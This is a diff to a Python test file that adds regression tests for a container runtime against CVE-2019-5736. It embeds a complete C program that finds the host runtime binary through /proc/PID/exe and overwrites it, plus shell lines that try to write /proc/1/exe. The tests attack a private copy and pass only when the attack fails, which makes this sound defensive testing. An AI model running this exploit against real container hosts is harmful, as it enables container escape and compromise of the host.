@@ -4,6 +4,7 @@ symlinked mount targets and /dev confined to the root, masked and read-only
 paths, no CAP_SYS_ADMIN by default."""
 
 import os
+import shutil
 
 import pytest
 
@@ -139,16 +140,157 @@ def test_user_process_exe_is_its_own_binary_not_a_runtime(vessel, bundle):
     assert out.strip() == "/bin/busybox", out
 
 
-def test_waiting_init_exe_unreachable_from_the_container(vessel, bundle, cid):
-    """While a created container's init waits, it runs vessel's code: it is
-    non-dumpable, so a process exec'd into the container (default
-    capabilities, no CAP_SYS_PTRACE) cannot open /proc/1/exe."""
-    b = bundle("true")
+# A container process with CAP_SYS_PTRACE (root without a user namespace)
+# passes the ptrace check of /proc/PID/exe even for a non-dumpable process.
+# It polls the container's /proc for any process whose exe is the host's
+# vessel binary (argv[1]:argv[2], dev:inode), reports each as SAW, keeps the
+# first one open and reopens it for writing as soon as no process executes
+# it (CVE-2019-5736), reporting WROTE. It stops when /stop appears (after one scan at least).
+ATTACK_C = r"""
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+int main(int argc, char **argv)
+{
+        dev_t dev = strtoull(argv[1], NULL, 10);
+        ino_t ino = strtoull(argv[2], NULL, 10);
+        int self = getpid(), held = -1, wrote = 0;
+        printf("ready\n");
+        fflush(stdout);
+        do {
+                DIR *d = opendir("/proc");
+                struct dirent *e;
+                while (d && (e = readdir(d))) {
+                        int pid = atoi(e->d_name);
+                        if (pid <= 0 || pid == self)
+                                continue;
+                        char path[64];
+                        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+                        int fd = open(path, O_PATH);
+                        struct stat st;
+                        if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
+                                printf("SAW %d\n", pid);
+                                fflush(stdout);
+                                if (held < 0) {
+                                        held = fd;
+                                        continue;
+                                }
+                        }
+                        if (fd >= 0)
+                                close(fd);
+                }
+                if (d)
+                        closedir(d);
+                if (held >= 0 && !wrote) {
+                        char path[64];
+                        snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
+                        int w = open(path, O_WRONLY);
+                        if (w >= 0 && pwrite(w, "PWNED", 5, 0) == 5) {
+                                wrote = 1;
+                                printf("WROTE\n");
+                                fflush(stdout);
+                        }
+                        if (w >= 0)
+                                close(w);
+                }
+        } while (access("/stop", F_OK) != 0);
+        printf("done\n");
+        return 0;
+}
+"""
+
+
+def _static_program(tmp_path, source, dest):
+    import subprocess
+
+    cc = shutil.which("cc")
+    if cc is None:
+        pytest.skip("no C compiler to build the in-container attack program")
+    src = tmp_path / "attack.c"
+    src.write_text(source)
+    res = subprocess.run([cc, "-static", "-O2", "-o", str(dest), str(src)],
+                         capture_output=True, text=True)
+    if res.returncode != 0 and "cannot find" in res.stderr:
+        pytest.skip(f"cannot link a static program: {res.stderr.strip()}")
+    assert res.returncode == 0, res.stderr
+
+
+def test_exec_never_shows_the_host_binary_to_the_container(vessel, bundle, cid, vessel_bin,
+                                                           tmp_path):
+    """CVE-2019-5736 through exec: no process in the container's pid
+    namespace may ever have the host's vessel binary as its exe, even for a
+    moment while exec joins the container, where a container with
+    CAP_SYS_PTRACE could open it and overwrite it once vessel exits."""
+    # Attack a private copy: the test must not break the suite's binary.
+    binary = tmp_path / "vessel-under-attack"
+    shutil.copy2(vessel_bin, binary)
+    vessel.binary = str(binary)
+    before = _sha256(binary)
+    st = os.stat(binary)
+    b = bundle("/bin/attack", str(st.st_dev), str(st.st_ino), private=True)
+    _static_program(tmp_path, ATTACK_C, b.rootfs / "bin" / "attack")
+    caps = b.process["capabilities"]
+    for kind in ("bounding", "effective", "permitted"):
+        caps[kind] = sorted(set(caps.get(kind, [])) | {"CAP_SYS_PTRACE"})
+    b.linux["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW",
+                          "syscalls": [{"names": ["mkdirat"], "action": "SCMP_ACT_ERRNO"}]}
+    res = vessel.create_ok(b, cid)
+    vessel.start_ok(cid)
+    wait_for_text(res.out_path, "ready")
+    # Every way into the container: plain, as another user, with the
+    # filter installed late (no_new_privs), in another directory.
+    try:
+        for i in range(60):
+            extra = [(), ("--user", "1000"), ("--no-new-privs",), ("--cwd", "/tmp")][i % 4]
+            try:
+                r = vessel("exec", *extra, cid, "true")
+            except OSError as e:  # the attack succeeded: the copy is no ELF any more
+                print(f"exec {i}: {e}")
+                break
+            assert r.returncode == 0, r.describe()
+    finally:
+        (b.rootfs / "stop").write_text("")
+        vessel.binary = str(vessel_bin)  # intact, for the cleanup
+    vessel.wait_status(cid, "stopped", timeout=20)
+    out = open(res.out_path).read()
+    assert "done" in out, out
+    assert "SAW" not in out, f"a container process had the host binary as exe:\n{out}"
+    assert "WROTE" not in out and _sha256(binary) == before, "the host binary was overwritten"
+
+
+def test_waiting_init_is_the_sealed_stub(vessel, bundle, cid, vessel_bin, tmp_path):
+    """A created container's init waits for `start` in the sealed exec stub,
+    not in vessel's code: a process exec'd into the container, even with
+    CAP_SYS_PTRACE, finds no process whose exe is the host binary, and
+    cannot write the stub it finds instead; without it, it cannot reach the
+    stub's fds."""
+    st = os.stat(vessel_bin)
+    b = bundle("true", private=True)
+    _static_program(tmp_path, ATTACK_C, b.rootfs / "bin" / "attack")
+    (b.rootfs / "stop").write_text("")  # one scan of /proc, then stop
     vessel.create_ok(b, cid)
-    res = vessel("exec", cid, "sh", "-c", "cat /proc/1/exe >/dev/null && echo OPENED; echo done")
-    assert res.returncode == 0, res.describe()
-    assert "done" in res.stdout and "OPENED" not in res.stdout, res.describe()
-    assert "Permission denied" in res.stderr, res.describe()
+    res = vessel("exec", "--cap", "CAP_SYS_PTRACE", cid, "/bin/attack", str(st.st_dev),
+                 str(st.st_ino))
+    assert res.returncode == 0 and "done" in res.stdout, res.describe()
+    assert "SAW" not in res.stdout, res.describe()
+    res = vessel("exec", "--cap", "CAP_SYS_PTRACE", cid, "sh", "-c",
+                 "wc -c < /proc/1/exe; echo x >> /proc/1/exe && echo WROTE; echo end")
+    assert "end" in res.stdout and "WROTE" not in res.stdout, res.describe()
+    assert int(res.stdout.split()[0]) < st.st_size // 10, res.describe()
+    # Without CAP_SYS_PTRACE its fds (one is the host's procfs, kept to open
+    # the exec fifo) are out of reach: the stub is not dumpable.
+    res = vessel("exec", cid, "sh", "-c",
+                 "n=0; for f in /proc/1/fd/*; do n=$((n+1)); readlink $f && echo READ; done; "
+                 "echo seen=$n")
+    assert "READ" not in res.stdout, res.describe()
+    assert int(res.stdout.split("seen=")[1]) >= 4, res.describe()
+    vessel.start_ok(cid)
+    vessel.wait_status(cid, "stopped")
 
 
 def test_host_binary_not_reachable_from_container(vessel, bundle, cid, vessel_bin):
